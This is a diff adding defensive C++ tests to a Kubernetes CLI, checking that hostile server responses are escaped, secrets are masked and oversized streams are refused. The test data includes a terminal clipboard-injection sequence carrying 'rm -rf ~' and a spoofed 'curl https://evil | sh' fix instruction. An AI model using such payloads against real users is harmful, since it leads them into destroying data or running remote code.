@@ -1,0 +1,161 @@
+// What an API server or webhook we did not write can send: nothing of it reaches the terminal as
+// a control sequence, no secret is traced, and what it makes the client hold or do is bounded.
+#include <catch2/catch.hpp>
+
+#include "kube_fakes.hpp"
+#include "rossoctl/kube/trace.hpp"
+#include "rossoctl/kube/websocket.hpp"
+#include "test_host.hpp"
+
+using namespace rossoctl;
+using nlohmann::json;
+using rossoctl::testing::ClientFixture;
+using rossoctl::testing::TestHost;
+
+namespace {
+
+const std::string kSandboxes = "/apis/agents.x-k8s.io/v1beta1/namespaces/team1/sandboxes";
+
+}  // namespace
+
+TEST_CASE("a Status reason from a webhook reaches stderr escaped", "[hostile][server]") {
+    TestHost host;
+    host.serveSandboxGroup();
+    host.server.onJson("GET", kSandboxes + "/orders", 403,
+                       {{"kind", "Status"},
+                        {"code", 403},
+                        {"reason", "\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J"},
+                        {"message", "denied by webhook"}});
+    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
+    const std::string err = host.err.str();
+    CHECK(err.find('\x1b') == std::string::npos);
+    CHECK(err.find('\x07') == std::string::npos);
+    CHECK(err.find("Error from server (\\x1b]52;c;") == 0);
+}
+
+TEST_CASE("-v 8 on a terminal escapes traced bodies and masks env values", "[hostile][server]") {
+    TestHost host;
+    host.stderrIsTerminal = true;
+    host.serveSandboxGroup();
+    // A termination message carrying C1 controls (U+009D is OSC in 8-bit form) and a secret env
+    // value in the pod template.
+    const json sandbox = {
+        {"kind", "Sandbox"},
+        {"metadata", {{"name", "orders"}, {"namespace", "team1"}}},
+        {"spec",
+         {{"podTemplate",
+           {{"spec",
+             {{"containers",
+               {{{"name", "agent"},
+                 {"env", {{{"name", "API_KEY"}, {"value", "sk-live-42"}}}}}}}}}}}}},
+        {"status",
+         {{"message",
+           "done\xc2\x9d"
+           "52;c;cm0=\xc2\x9c"}}}};
+    host.server.onJson("GET", kSandboxes + "/orders", 200, sandbox);
+    host.run({"sandbox", "get", "orders", "-v", "8"});
+    const std::string err = host.err.str();
+    INFO(err);
+    CHECK(err.find("Response Body: ") != std::string::npos);
+    CHECK(err.find("\xc2\x9d") == std::string::npos);
+    CHECK(err.find("\\u009d") != std::string::npos);
+    CHECK(err.find("sk-live-42") == std::string::npos);
+    CHECK(err.find(R"("value":"***")") != std::string::npos);
+}
+
+TEST_CASE("traced bodies mask Secret data, in a list and a watch event too", "[hostile][trace]") {
+    const json secret = {{"kind", "Secret"},
+                         {"metadata", {{"name", "db"}}},
+                         {"data", {{"password", "aHVudGVyMg=="}, {"url", "cG9zdGdyZXM6Ly8="}}},
+                         {"stringData", {{"dsn", "postgres://u:p@db"}}}};
+    const json list = {{"kind", "SecretList"},
+                       {"items", {{{"metadata", {{"name", "a"}}}, {"data", {{"k", "c2VjcmV0"}}}}}}};
+    const json event = {{"type", "ADDED"}, {"object", secret}};
+    for (const auto& body : {secret, list, event}) {
+        const std::string masked = kube::maskSecretsInBody(body.dump());
+        INFO(masked);
+        for (const char* leak : {"aHVudGVyMg==", "cG9zdGdyZXM6Ly8=", "postgres://u", "c2VjcmV0"})
+            CHECK(masked.find(leak) == std::string::npos);
+    }
+    // Not JSON: the text masks still apply.
+    CHECK(kube::maskSecretsInBody("token: abc") == "token: ***");
+}
+
+TEST_CASE("a watch line is searched once per chunk and capped", "[hostile][server]") {
+    ClientFixture fixture;
+    // 17 MiB of one line in 64 KiB chunks, never ending: refused once past the cap (a rescan
+    // from the line's start on every chunk made this quadratic).
+    std::vector<std::string> chunks(17 * 16, std::string(64 * 1024, 'a'));
+    chunks.front().replace(0, 1, "{");
+    fixture.server.stream(chunks);
+    int events = 0;
+    CHECK_THROWS_WITH(fixture.client->watch(kube::resources::pods(), "team1", {},
+                                            [&](const kube::WatchEvent&) { return ++events > 0; }),
+                      Catch::Contains("watch event over 16 MiB; refused"));
+    CHECK(events == 0);
+
+    // Lines split at every byte still arrive whole.
+    ClientFixture split;
+    const std::string line = json{{"type", "ADDED"}, {"object", {{"a", 1}}}}.dump() + "\n";
+    std::vector<std::string> bytes;
+    for (char c : line + line) bytes.emplace_back(1, c);
+    split.server.stream(bytes);
+    int seen = 0;
+    split.client->watch(kube::resources::pods(), "team1", {}, [&](const kube::WatchEvent& e) {
+        CHECK(e.object["a"] == 1);
+        return ++seen < 2;
+    });
+    CHECK(seen == 2);
+}
+
+TEST_CASE("WebSocket frames over 4 MiB are refused; many tiny frames parse in one pass",
+          "[hostile][websocket]") {
+    kube::WsFrameParser parser;
+    std::string header = "\x82\x7f";
+    const uint64_t size = 5ULL << 20;
+    for (int shift = 56; shift >= 0; shift -= 8)
+        header.push_back(static_cast<char>((size >> shift) & 0xFF));
+    parser.feed(header);
+    CHECK_THROWS_WITH(parser.next(), Catch::Contains("exceeds the limit"));
+
+    kube::WsFrameParser tiny;
+    std::string frames;
+    for (int i = 0; i < 100'000; ++i) frames += std::string("\x82\x01", 2) + "x";
+    tiny.feed(frames);
+    size_t count = 0;
+    while (auto frame = tiny.next()) count += frame->payload == "x";
+    CHECK(count == 100'000);
+    tiny.feed(std::string("\x82\x01", 2) + "y");
+    auto last = tiny.next();
+    REQUIRE(last);
+    CHECK(last->payload == "y");
+}
+
+TEST_CASE("outside a UTF-8 locale a server's UTF-8 reaches stderr as escapes",
+          "[hostile][server]") {
+    TestHost host;
+    host.environment["LANG"] = "de_DE.ISO-8859-1";
+    host.serveSandboxGroup();
+    host.server.onJson("GET", kSandboxes + "/orders", 403,
+                       {{"kind", "Status"},
+                        {"code", 403},
+                        {"reason", "Forbidden"},
+                        {"message", "denied: \xc4\x9b[2J"}});
+    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
+    CHECK(host.err.str().find('\x9b') == std::string::npos);
+    CHECK(host.err.str().find("denied: \\xc4\\x9b[2J") != std::string::npos);
+}
+
+TEST_CASE("a webhook's message cannot pose as a second line of rossoctl's", "[hostile][server]") {
+    TestHost host;
+    host.serveSandboxGroup();
+    host.server.onJson("GET", kSandboxes + "/orders", 403,
+                       {{"kind", "Status"},
+                        {"code", 403},
+                        {"reason", "Forbidden"},
+                        {"message", "denied\nerror: run curl https://evil | sh to fix"}});
+    CHECK(host.run({"sandbox", "get", "orders"}) == kExitError);
+    const std::string err = host.err.str();
+    CHECK(std::count(err.begin(), err.end(), '\n') == 1);
+    CHECK(err.find("denied\\nerror: ") != std::string::npos);
+}
